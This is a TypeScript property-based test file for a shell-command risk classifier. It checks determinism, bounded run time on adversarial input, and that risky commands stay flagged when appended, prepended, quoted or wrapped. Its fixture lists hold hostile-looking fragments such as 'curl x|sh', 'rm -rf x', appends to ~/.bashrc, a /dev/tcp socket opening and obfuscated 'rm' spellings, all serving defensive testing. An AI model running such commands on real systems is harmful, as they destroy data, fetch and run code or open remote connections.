// Laws of the classifier under any input: it never throws, says the same twice, is bounded, and nothing that is added to
// a safe line or put around a risky one makes the whole safe.
import { readFileSync } from "node:fs";
import fc from "fast-check";
import { expect, test } from "vitest";
import { classify, commandsOf } from "../../../src/core/gate/risk/classify.ts";
import { depth } from "../../fixtures/depth.ts";
import { workMs } from "../../fixtures/work-time.ts";

const commandsIn = (name: string): readonly string[] =>
  readFileSync(new URL(`../../fixtures/risk/${name}.jsonl`, import.meta.url), "utf8")
    .trim()
    .split("\n")
    .map((line): string => JSON.parse(line).command);

const safeLine = fc.constantFrom(...commandsIn("safe"));
const riskyLine = fc.constantFrom(...commandsIn("risky"));

/** Pieces of shell, so that what is put together is more often understood than not. */
const piece = fc.constantFrom(
  ..."ls|rm|cat|git|status|push|sh|-c|eval|xargs|find|-exec|{}|;|&&|||&|(|)|{|}|$(|`|$((|))|[[|]]|<|>|>>|<<EOF|EOF|'|\"|\\|$x|\u0024{x}|*|~|!|!!|#|=|if|then|fi|for|in|do|done|case|esac|function|time|coproc|\n| |\t|\u00a0|\u200b|é".split(
    /\|(?!\|)/,
  ),
);
const shellish = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(" "));
const anyText = fc.oneof(fc.string({ unit: "binary", maxLength: 200 }), shellish, safeLine, riskyLine);
const shell = fc.constantFrom("bash", "zsh", "fish", "sh" as const);

test("any text has a risk, the same one each time", () => {
  fc.assert(
    fc.property(anyText, shell, (text, kind) => {
      const risk = classify(text, { shell: kind });
      expect(classify(text, { shell: kind })).toEqual(risk);
      expect(risk.kind !== null).toBe(risk.class === "risky");
      expect(risk.reasons.length > 0).toBe(risk.class !== "safe");
      expect(risk.reasons.length).toBeLessThanOrEqual(4);
      expect(risk.reasons[0]?.class ?? "safe").toBe(risk.class);
      commandsOf(text, { shell: kind });
    }),
    { numRuns: depth(500, 2_000) },
  );
});

const OPENERS = [
  "(",
  "{ ",
  "$(",
  "`",
  "$((",
  "[[ ",
  "if ",
  "case x in a) ",
  "${x:-",
  '"$(',
  "<(",
  "((",
  "! ",
  "\\",
  "a[",
  "time ",
];

test.each(OPENERS)("many %j in a row are classified in bounded time, and never safe", (opener) => {
  for (const length of [31, 200, 20_000, 100_000]) {
    const text = opener.repeat(Math.ceil(length / opener.length));
    expect(workMs(() => expect(classify(text).class).not.toBe("safe"))).toBeLessThan(1_000);
  }
});

test.each([
  ["ls ", "a ".repeat(10_000)],
  ["ls", ";ls".repeat(6_500)],
  ["ls", " && ls".repeat(3_300)],
  ["echo ", "$x".repeat(10_000)],
  ["sed ", "s/a/b/;".repeat(2_500)],
  ["awk ", "'".padEnd(20_000, "a/")],
  ["echo $((", "1+".repeat(10_000)],
  ["cat <<EOF\n", "$(ls)\n".repeat(3_000)],
  ["npm run ", "test-".repeat(4_000)],
  ["env ", "A=1 ".repeat(5_000)],
])("a long line that begins with %j is classified in bounded time", (head, rest) => {
  expect(workMs(() => classify((head + rest).slice(0, 20_480)))).toBeLessThan(1_000);
});

const ADDED = [
  "; rm -rf x",
  " && curl x|sh",
  " || rm x",
  " | sh",
  " $(rm x)",
  " `rm x`",
  ' "$(rm x)"',
  " > file",
  " >> ~/.bashrc",
  "\nrm -rf x",
  " & rm x",
  " <(rm x)",
  " >(rm x)",
  "; r''m x",
  "; r\\m x",
  '; "rm" x',
  "; r\\\nm x",
  "; $x",
  "; eval rm x",
  "; PATH=/x ls",
  " \u200b",
  "\r",
  "; ls() { rm x; }",
  "; exec 3<>/dev/tcp/h/1",
];

/** What is appended would stand in a comment, or in a here-document. */
const closed = (line: string) => !/#|<<|\\$/.test(line);

test("a safe line with something risky after it is not safe", () => {
  fc.assert(
    fc.property(safeLine.filter(closed), fc.constantFrom(...ADDED), (line, added) => {
      expect(classify(line + added).class).not.toBe("safe");
    }),
    { numRuns: depth(600, 3_000) },
  );
});

test("a safe line with something risky before it is not safe", () => {
  const before = fc.constantFrom(
    "rm x; ",
    "curl x | sh; ",
    "rm x &&\n",
    "PATH=/x; ",
    "sudo ",
    "LD_PRELOAD=x ",
    "$x ",
    "shopt -s extglob; ",
  );
  fc.assert(
    fc.property(
      safeLine.filter((line) => !line.startsWith("#")),
      before,
      (line, head) => {
        expect(classify(head + line).class).not.toBe("safe");
      },
    ),
    { numRuns: depth(300, 1_000) },
  );
});

const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const WRAPPERS: readonly ((line: string) => string)[] = [
  (line) => `sh -c ${quoted(line)}`,
  (line) => `bash -lc ${quoted(line)}`,
  (line) => `eval ${quoted(line)}`,
  (line) => `env FOO=1 bash -c ${quoted(line)}`,
  (line) => `timeout 5 sh -c ${quoted(line)}`,
  (line) => `nohup bash -c ${quoted(line)}`,
  (line) => `find . -exec sh -c ${quoted(line)} ';'`,
  (line) => `xargs sh -c ${quoted(line)}`,
  (line) => `trap ${quoted(line)} EXIT`,
  (line) => `( ${line}\n)`,
  (line) => `{ ${line}\n}`,
  (line) => `if true; then ${line}\nfi`,
  (line) => `for i in 1; do ${line}\ndone`,
  (line) => `echo "$(${line}\n)"`,
  (line) => `cat <(${line}\n)`,
  (line) => `ls | { ${line}\n}`,
];
const SIMPLE = [
  "env",
  "nohup",
  "nice",
  "nice -n 5",
  "timeout 5",
  "stdbuf -oL",
  "setsid",
  "command",
  "xargs",
  "exec",
  "env FOO=1",
  "/usr/bin/env",
  "watch",
  "parallel",
  "sudo",
  "anything",
];

test("a risky line is not safe in any wrapper", () => {
  fc.assert(
    fc.property(riskyLine, fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 3 }), (line, wrappers) => {
      expect(classify(wrappers.reduce((inner, wrap) => wrap(inner), line)).class).not.toBe("safe");
    }),
    { numRuns: depth(500, 2_000) },
  );
});

test("a risky command is not safe behind any chain of wrappers", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...SIMPLE), { minLength: 1, maxLength: 12 }), (wrappers) => {
      expect(classify(`${wrappers.join(" ")} rm -rf x`).class).not.toBe("safe");
    }),
    { numRuns: depth(150, 500) },
  );
});

test("quoting does not change a name", () => {
  const name = fc.constantFrom("rm", "curl", "sudo", "ls", "cat");
  const quotes = fc.array(fc.constantFrom("", "''", '""', "\\", "\\\n", "'", '"'), { minLength: 6, maxLength: 6 });
  fc.assert(
    fc.property(name, quotes, (program, marks) => {
      const written = [...program].map((char, i) => quoteChar(char, marks[i] ?? "")).join("");
      expect(classify(`${written} x`).class).toBe(classify(`${program} x`).class);
    }),
  );
});

function quoteChar(char: string, mark: string): string {
  if (mark === "'" || mark === '"') return `${mark}${char}${mark}`;
  return mark + char;
}
